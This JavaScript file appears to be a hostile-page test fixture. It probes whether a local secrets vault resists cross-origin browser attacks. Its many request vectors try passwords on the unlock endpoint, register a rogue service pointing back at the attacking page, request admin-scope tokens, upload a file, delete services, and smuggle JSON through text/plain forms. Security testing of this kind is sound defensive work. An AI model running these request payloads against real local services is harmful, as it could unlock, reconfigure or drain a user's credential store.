/*
 * What a web page can send, and read back, without the user's help. Served by hostile-site.ts and run in the browser.
 * Every attack names itself in the query of what it sends, and gives what it could read of the answers.
 */

/* global document, window, navigator, location */

/**
 * @typedef {object} Aim
 * @property {string} vault Origin of the vault.
 * @property {string} page Origin of the page that serves this.
 * @property {string} token A valid token, or "".
 * @property {string[]} passwords What to unlock with.
 * @property {number} [patienceMs]
 */

/** How long an attack waits for what it started. */
const patience = { ms: 400 };
const pause = () => new Promise((resolve) => setTimeout(resolve, patience.ms));
const loaded = (element, events = ["load", "error"]) =>
  Promise.race([
    new Promise((resolve) => events.forEach((name) => element.addEventListener(name, () => resolve(name)))),
    pause(),
  ]);

/** Attempts that a page without any rights makes, in all the places where it would hurt. */
function targets(aim, attack) {
  const query = new URLSearchParams({ ...(aim.token === "" ? {} : { key: aim.token }), attack });
  const at = (path) => `${aim.vault}${path}?${query}`;
  return {
    call: at("/proxy/query/x"),
    services: at("/services"),
    unlock: at("/auth/unlock"),
    lock: at("/auth/lock"),
    tokens: at("/tokens"),
    files: at("/files"),
    service: at("/services/query"),
    health: at("/health"),
    all: [at("/proxy/query/x"), at("/services"), at("/health")],
  };
}

const unlockBodies = (aim) => aim.passwords.map((password) => JSON.stringify({ password }));

/** Resolves with what is readable of the answer: nothing of an opaque one, nor of one that CORS hides. */
async function read(url, options) {
  try {
    const answer = await fetch(url, options);
    if (answer.type === "opaque" || answer.type === "opaqueredirect") return [];
    return [`${answer.status} ${await answer.text()}`];
  } catch {
    return [];
  }
}
const readAll = async (requests) =>
  (await Promise.all(requests.map(([url, options]) => read(url, options)))).flat();

function xhr(method, url, headers, body) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.onload = () => resolve([`${request.status} ${request.responseText}`]);
    request.onerror = () => resolve([]);
    request.send(body);
  });
}

function attach(tag, properties, parent = document.body) {
  const element = Object.assign(document.createElement(tag), properties);
  parent.append(element);
  return element;
}

/** A frame's text if it can be read: of the page's own origin only. */
function textOf(frameWindow) {
  try {
    const text = frameWindow.document.body?.innerText ?? "";
    return text === "" ? [] : [text];
  } catch {
    return [];
  }
}

async function submit(action, method, enctype, fields) {
  const frame = attach("iframe", { name: `f${Math.random()}` });
  const form = attach("form", { action, method, enctype, target: frame.name });
  for (const [name, value] of fields) attach("input", { type: "hidden", name, value }, form);
  form.submit();
  await loaded(frame);
  await pause();
  return textOf(frame.contentWindow);
}

/** A body of `text/plain` that is JSON: the = between name and value stands in a string. */
const jsonAsField = (json) => [[`${json.slice(0, -1)},"pad":"`, `"}`]];

const noCors = (method, body, type = "text/plain") => ({
  method,
  mode: "no-cors",
  ...(body === undefined ? {} : { body, headers: { "Content-Type": type } }),
});

const subresource =
  (tag, attribute, properties = {}) =>
  async (aim, name) => {
    const urls = targets(aim, name).all;
    const events = await Promise.all(
      urls.map((url) =>
        loaded(attach(tag, { ...properties, [attribute]: url }), ["load", "loadeddata", "error"]),
      ),
    );
    return events
      .filter((event) => event === "load" || event === "loadeddata")
      .map((event) => `${tag}: ${event}`);
  };

/** @type {Record<string, (aim: Aim, name: string) => Promise<string[]>>} */
export const ATTACKS = {
  fetch: (aim, name) => readAll(targets(aim, name).all.map((url) => [url, { credentials: "include" }])),
  "fetch-simple-post": (aim, name) => {
    const { call, lock, unlock } = targets(aim, name);
    const bodies = unlockBodies(aim).map((body) => [unlock, { method: "POST", body }]);
    return readAll([[call, { method: "POST", body: "x" }], [lock, { method: "POST" }], ...bodies]);
  },
  "fetch-json": (aim, name) => {
    const { call, lock, unlock, services, tokens } = targets(aim, name);
    const headers = { "Content-Type": "application/json" };
    const post = (url, body) => [url, { method: "POST", headers, body }];
    const service = JSON.stringify({
      name: "evil",
      base_url: aim.page,
      auth: { type: "bearer", token: "x" },
    });
    return readAll([
      ...[post(call, "{}"), post(lock, "{}"), post(services, service), post(tokens, '{"scope":"admin"}')],
      ...unlockBodies(aim).map((body) => post(unlock, body)),
    ]);
  },
  "fetch-with-token": (aim, name) => {
    const headers = { Authorization: `Bearer ${aim.token}`, "X-Vault-Token": aim.token };
    const { service, all } = targets(aim, name);
    return readAll([[service, { method: "DELETE", headers }], ...all.map((url) => [url, { headers }])]);
  },
  "fetch-other-methods": (aim, name) => {
    const { call, service } = targets(aim, name);
    return readAll(
      ["HEAD", "PUT", "PATCH", "DELETE", "OPTIONS"].flatMap((method) => [
        [call, { method }],
        [service, { method }],
      ]),
    );
  },
  "fetch-no-cors": (aim, name) => {
    const { unlock, all, call, lock } = targets(aim, name);
    const bodies = unlockBodies(aim);
    const types = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];
    return readAll([
      ...[...all.map((url) => [url, noCors("GET")]), [call, noCors("HEAD")]],
      ...[
        [call, noCors("POST", "x")],
        [lock, noCors("POST")],
      ],
      ...bodies.flatMap((body) => types.map((type) => [unlock, noCors("POST", body, type)])),
    ]);
  },
  "fetch-keepalive": (aim, name) =>
    readAll([[targets(aim, name).call, { ...noCors("POST", "x"), keepalive: true }]]),
  "fetch-no-referrer": (aim, name) =>
    readAll(targets(aim, name).all.map((url) => [url, { mode: "no-cors", referrerPolicy: "no-referrer" }])),
  "fetch-redirected": (aim, name) => {
    const { call, unlock } = targets(aim, name);
    const through = (status, to) => `${aim.page}/redirect?status=${status}&to=${encodeURIComponent(to)}`;
    const [body] = unlockBodies(aim);
    return readAll([
      ...[
        [through(302, call), {}],
        [through(302, call), { mode: "no-cors" }],
      ],
      ...[
        [through(307, call), noCors("POST", "x")],
        [through(307, unlock), noCors("POST", body)],
      ],
    ]);
  },
  xhr: async (aim, name) => {
    const { services, unlock } = targets(aim, name);
    const headers = { "Content-Type": "text/plain" };
    const posts = unlockBodies(aim).map((body) => xhr("POST", unlock, headers, body));
    return (await Promise.all([xhr("GET", services, {}), ...posts])).flat();
  },
  "form-get": (aim, name) =>
    submit(targets(aim, name).call, "GET", "", [
      ["key", aim.token],
      ["attack", name],
    ]),
  "form-urlencoded": async (aim, name) => {
    const { call, unlock } = targets(aim, name);
    const type = "application/x-www-form-urlencoded";
    const attempts = aim.passwords.map((password) => submit(unlock, "POST", type, [["password", password]]));
    return (await Promise.all([submit(call, "POST", type, [["a", "b"]]), ...attempts])).flat();
  },
  "form-multipart": async (aim, name) => {
    const { files, unlock } = targets(aim, name);
    const type = "multipart/form-data";
    const attempts = aim.passwords.map((password) => submit(unlock, "POST", type, [["password", password]]));
    const upload = submit(files, "POST", type, [
      ["name", "evil.txt"],
      ["file", "evil"],
    ]);
    return (await Promise.all([upload, ...attempts])).flat();
  },
  "form-text-plain": async (aim, name) => {
    const { unlock, call, lock } = targets(aim, name);
    const attempts = unlockBodies(aim).map((body) => submit(unlock, "POST", "text/plain", jsonAsField(body)));
    const others = [call, lock].map((url) => submit(url, "POST", "text/plain", jsonAsField('{"a":1}')));
    return (await Promise.all([...attempts, ...others])).flat();
  },
  image: subresource("img", "src"),
  script: subresource("script", "src"),
  "module-script": subresource("script", "src", { type: "module" }),
  stylesheet: subresource("link", "href", { rel: "stylesheet" }),
  video: subresource("video", "src"),
  prefetch: async (aim, name) => {
    for (const url of targets(aim, name).all) attach("link", { rel: "prefetch", href: url }, document.head);
    await pause();
    return [];
  },
  preload: async (aim, name) => {
    for (const url of targets(aim, name).all)
      attach("link", { rel: "preload", as: "image", href: url }, document.head);
    await pause();
    return [];
  },
  iframe: async (aim, name) => {
    const frames = targets(aim, name).all.map((src) => attach("iframe", { src }));
    await Promise.all(frames.map((frame) => loaded(frame)));
    return frames.flatMap((frame) => textOf(frame.contentWindow));
  },
  "iframe-srcdoc": async (aim, name) => {
    const images = targets(aim, name).all.map((url) => `<img src="${url.replaceAll("&", "&amp;")}">`);
    await loaded(attach("iframe", { srcdoc: images.join(""), sandbox: "" }));
    await pause();
    return [];
  },
  object: async (aim, name) => {
    const objects = targets(aim, name).all.map((data) => attach("object", { data, type: "text/html" }));
    await pause();
    return objects.flatMap((object) => (object.contentWindow === null ? [] : textOf(object.contentWindow)));
  },
  beacon: async (aim, name) => {
    const { call, unlock } = targets(aim, name);
    navigator.sendBeacon(call, "x");
    for (const body of unlockBodies(aim)) {
      navigator.sendBeacon(unlock, body);
      navigator.sendBeacon(unlock, new Blob([body], { type: "application/json" }));
    }
    await pause();
    return [];
  },
  "event-source": async (aim, name) => {
    const source = new EventSource(targets(aim, name).call, { withCredentials: true });
    const event = await loaded(source, ["open", "message", "error"]);
    source.close();
    return event === "open" || event === "message" ? [`EventSource: ${event}`] : [];
  },
  websocket: async (aim, name) => {
    const url = targets(aim, name).call.replace(/^http/, "ws");
    const socket = new WebSocket(url, aim.token === "" ? [] : [aim.token]);
    const event = await loaded(socket, ["open", "message", "error"]);
    socket.close();
    return event === "open" || event === "message" ? [`WebSocket: ${event}`] : [];
  },
  worker: async (aim, name) => {
    const urls = JSON.stringify(targets(aim, name).all);
    const code = `for (const url of ${urls}) { try { importScripts(url); postMessage("ran"); } catch {} } postMessage("")`;
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    const heard = await Promise.race([
      new Promise((resolve) => (worker.onmessage = (event) => resolve(event.data))),
      pause(),
    ]);
    await pause();
    worker.terminate();
    return heard === "ran" ? ["importScripts: ran"] : [];
  },
  ping: async (aim, name) => {
    const anchor = attach("a", { href: "#", ping: targets(aim, name).call });
    anchor.click();
    await pause();
    return [];
  },
  popup: async (aim, name) => {
    const { call, services } = targets(aim, name);
    const popups = [window.open(call), window.open(services, "_blank", "noopener")];
    await pause();
    const texts = popups.filter((popup) => popup !== null).flatMap((popup) => textOf(popup));
    for (const popup of popups) popup?.close();
    return texts;
  },
  "popup-post": async (aim, name) => {
    const { call, unlock } = targets(aim, name);
    const popup = window.open("about:blank", `p${name}`);
    for (const [action, fields] of [
      [call, [["a", "b"]]],
      [unlock, jsonAsField(unlockBodies(aim)[0])],
    ]) {
      const form = attach("form", { action, method: "POST", enctype: "text/plain", target: `p${name}` });
      for (const [field, value] of fields) attach("input", { type: "hidden", name: field, value }, form);
      form.submit();
      await pause();
    }
    const texts = popup === null ? [] : textOf(popup);
    popup?.close();
    return texts;
  },
};

/** Attacks that need a page of the vault's own origin to come off; they have to fail in themselves. */
export const REGISTRATIONS = {
  "service-worker": (aim, name) => navigator.serviceWorker.register(targets(aim, name).call, { scope: "/" }),
  worker: async (aim, name) => new Worker(targets(aim, name).call),
  "shared-worker": async (aim, name) => new SharedWorker(targets(aim, name).call),
};

/** Runs every attack at once. @returns what each could read, without those that could read nothing */
async function attackAll(aim) {
  patience.ms = aim.patienceMs ?? patience.ms;
  const outcomes = await Promise.all(
    Object.entries(ATTACKS).map(async ([name, attack]) => {
      try {
        return [name, await attack(aim, name)];
      } catch (error) {
        return [name, error?.name === "SecurityError" ? [] : [`failed: ${error}`]];
      }
    }),
  );
  return Object.fromEntries(outcomes.filter(([, read]) => read.length > 0));
}

async function registerAll(aim) {
  const outcomes = {};
  for (const [name, register] of Object.entries(REGISTRATIONS)) {
    try {
      const registered = await register(aim, name);
      if (registered instanceof EventTarget && "onerror" in registered) {
        outcomes[name] = await Promise.race([
          new Promise((resolve) => (registered.onerror = () => resolve("refused"))),
          pause().then(() => "runs"),
        ]);
      } else outcomes[name] = "registered";
    } catch {
      outcomes[name] = "refused";
    }
  }
  return outcomes;
}

Object.assign(window, {
  attackAll,
  registerAll,
  attackNames: Object.keys(ATTACKS),
  hostileOrigin: location.origin,
});
